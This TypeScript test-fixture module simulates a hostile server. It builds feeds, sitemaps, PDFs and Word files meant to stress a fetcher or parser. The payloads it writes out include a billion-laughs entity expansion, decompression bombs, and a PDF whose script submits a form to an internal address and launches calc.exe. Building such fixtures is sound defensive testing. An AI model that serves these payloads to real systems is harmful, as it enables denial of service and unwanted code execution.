/** Answers of a hostile server, and the bytes that they are made of. */
import type { IncomingMessage, ServerResponse } from "node:http"
import { deflateSync, gzipSync } from "node:zlib"
import { zipSync } from "fflate"

/** What a server does at one address. */
export type Answer = (request: IncomingMessage, response: ServerResponse) => void

type Headers = Readonly<Record<string, string>>

/** A whole, ordinary answer. */
export const body =
  (
    content: string | Uint8Array,
    type: string | null = "application/rss+xml",
    headers: Headers = {}
  ): Answer =>
  (_, response) =>
    void response
      .writeHead(200, { ...(type === null ? {} : { "content-type": type }), ...headers })
      .end(content)

/** HTML in UTF-8. */
export const html = (content: string | Uint8Array): Answer => body(content, "text/html; charset=utf-8")

/** Says how it is packed, rightly or not. */
export const packed = (coding: string, content: Uint8Array): Answer =>
  body(content, "application/rss+xml", { "content-encoding": coding })

/** A status without content. */
export const status =
  (code: number, headers: Headers = {}): Answer =>
  (_, response) =>
    void response.writeHead(code, headers).end()

/** Leads elsewhere; the path tells how often it has done so already. */
export const leadsTo =
  (target: (path: string) => string): Answer =>
  (request, response) =>
    void response.writeHead(302, { location: target(request.url ?? "/") }).end()

/** Bytes on the wire, whatever HTTP says of them; then the connection is closed. */
export const raw =
  (bytes: string): Answer =>
  (_, response) =>
    void response.socket?.end(bytes, "latin1")

/** As many bytes as the connection takes, for ever. */
export const endless =
  (chunk: string | Uint8Array, type: string, headers: Headers = {}): Answer =>
  (_, response) => {
    response.writeHead(200, { "content-type": type, ...headers })
    const write = () => {
      while (!response.destroyed && response.write(chunk));
    }
    response.on("drain", write)
    write()
  }

/** One byte, a pause, one byte, for ever: no pause is long enough to be one. */
export const drip =
  (type: string): Answer =>
  (_, response) => {
    response.writeHead(200, { "content-type": type })
    const timer = setInterval(() => response.write(" "), 100)
    response.on("close", () => clearInterval(timer))
  }

/** Begins an answer and says no more. */
export const stops: Answer = (_, response) => void response.writeHead(200).write("<rss")

/** Announces a length and hangs up. */
export const hangsUp: Answer = (request, response) => {
  response.writeHead(200, { "content-length": "1000" })
  response.write("<rss")
  setTimeout(() => request.socket.destroy(), 20)
}

/** An entry of a feed. */
export const entry = (url: string, title: string): string =>
  `<item><title>${title}</title><link>${url.replaceAll("&", "&amp;")}</link><guid>${url.replaceAll("&", "&amp;")}</guid><pubDate>Mon, 09 Jun 2025 09:00:00 +0000</pubDate></item>`

/** A feed in RSS. */
export const feed = (items: ReadonlyArray<string>, prolog = '<?xml version="1.0"?>'): string =>
  `${prolog}<rss version="2.0"><channel><title>Forum</title><link>http://forum.example/</link><description>News</description>${items.join("")}</channel></rss>`

/** A sitemap, or an index of sitemaps. */
export const sitemap = (urls: ReadonlyArray<string>, of: "urlset" | "sitemapindex" = "urlset"): string => {
  const name = of === "urlset" ? "url" : "sitemap"
  const entries = urls.map((url) => `<${name}><loc>${url}</loc></${name}>`).join("")
  return `<?xml version="1.0"?><${of} xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${entries}</${of}>`
}

/** Entities that unfold to a thousand million "lol". */
export const laughs = (content: string): string => {
  const levels = Array.from({ length: 9 }, (_, level) => {
    const inner = level === 0 ? "lol" : `&lol${level - 1};`.repeat(10)
    return `<!ENTITY lol${level} "${inner}">`
  })
  return content.replace("?>", `?><!DOCTYPE rss [${levels.join("")}]>`).replace("Forum", "&lol8;")
}

/** A page with three messages. */
export const page = (topic: string): string =>
  `<!doctype html><html lang="en"><head><title>Messages on ${topic}</title></head><body><main><h1>Messages on ${topic}</h1>
<p>The forum met on 9 June 2025 and agreed on the following messages.</p><ol>
<li>Governments should publish the cost of ${topic} in every district, so that citizens can compare it.</li>
<li>Operators should open ${topic} to community networks at a fair price and report on it each year.</li>
<li>Schools need teachers who are trained in ${topic} before they need more devices.</li></ol></main></body></html>`

/** UTF-16 of either byte order, with or without its mark. */
export const utf16 = (text: string, order: "le" | "be", mark: boolean): Uint8Array => {
  const bytes = Buffer.from(mark ? `\ufeff${text}` : text, "utf16le")
  return order === "le" ? bytes : bytes.swap16()
}

interface PdfParts {
  /** Drawing instructions of the one page. */
  readonly content: Uint8Array
  readonly catalog?: string
  readonly trailer?: string
  readonly filter?: string
}

/** A PDF of one page. */
const pdf = ({ catalog = "", content, filter = "", trailer = "" }: PdfParts): Uint8Array => {
  const objects = [
    Buffer.from(`<</Type/Catalog/Pages 2 0 R${catalog}>>`),
    Buffer.from("<</Type/Pages/Kids[3 0 R]/Count 1>>"),
    Buffer.from(
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    ),
    Buffer.concat([
      Buffer.from(`<</Length ${content.length}${filter}>>\nstream\n`),
      content,
      Buffer.from("\nendstream")
    ]),
    Buffer.from("<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
  ]
  const parts: Array<Buffer> = [Buffer.from("%PDF-1.7\n")]
  const offsets = objects.map((object, index) => {
    const at = parts.reduce((sum, part) => sum + part.length, 0)
    parts.push(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), object, Buffer.from("\nendobj\n")]))
    return `${String(at).padStart(10, "0")} 00000 n \n`
  })
  const start = parts.reduce((sum, part) => sum + part.length, 0)
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join("")}trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`
    )
  )
  return Buffer.concat(parts)
}

const written = (lines: ReadonlyArray<string>): Uint8Array =>
  Buffer.from(`BT /F1 12 Tf 60 740 Td 16 TL ${lines.map((line) => `(${line}) Tj T*`).join(" ")} ET`, "latin1")

const report = written([
  "Messages of the forum on water meters",
  "1. Utilities should publish the readings of water meters as open data every month.",
  "2. Households must be able to refuse that their readings are sold to advertisers.",
  "3. Universities should train engineers who can repair water meters in villages."
])

export const pdfs = {
  plain: pdf({ content: report }),
  /** No password opens it: the digests in it are of nothing. */
  locked: pdf({
    content: report,
    trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${"41".repeat(32)}>/U<${"42".repeat(32)}>>>`
  }),
  /** Runs a script when it is opened, starts a program, and asks a server for a page. */
  scripted: pdf({
    content: report,
    catalog:
      "/OpenAction<</S/JavaScript/JS(app.alert\\('opened'\\); this.submitForm\\('http://10.0.0.7/taken'\\))>>/AA<</WC<</S/Launch/F(calc.exe)>>>>"
  }),
  /** 64 KB that unpack to 60 MB of spaces. */
  bomb: pdf({
    content: deflateSync(Buffer.concat([report, Buffer.alloc(60 * 1024 * 1024, 32)])),
    filter: "/Filter/FlateDecode"
  }),
  /** Its page tree is its own child. */
  circular: Buffer.from(
    Buffer.from(pdf({ content: report }))
      .toString("latin1")
      .replace("/Kids[3 0 R]", "/Kids[2 0 R]"),
    "latin1"
  )
}

/** Megabytes of one character, packed once for all rows. */
export const emptiness = Buffer.alloc(48 * 1024 * 1024, 32)
export const gzippedEmptiness = gzipSync(emptiness)

const wordTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const wordRelations =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'

/** A Word file with this XML as its text, and other files beside it. */
export const word = (
  xml: string,
  others: Readonly<Record<string, Uint8Array>> = {},
  prolog = '<?xml version="1.0"?>'
): Uint8Array => {
  const document = `${prolog}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${xml}</w:body></w:document>`
  return zipSync({
    "[Content_Types].xml": Buffer.from(wordTypes),
    "_rels/.rels": Buffer.from(wordRelations),
    "word/document.xml": Buffer.from(document),
    ...others
  })
}

/** A paragraph of a Word file. */
export const wordParagraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
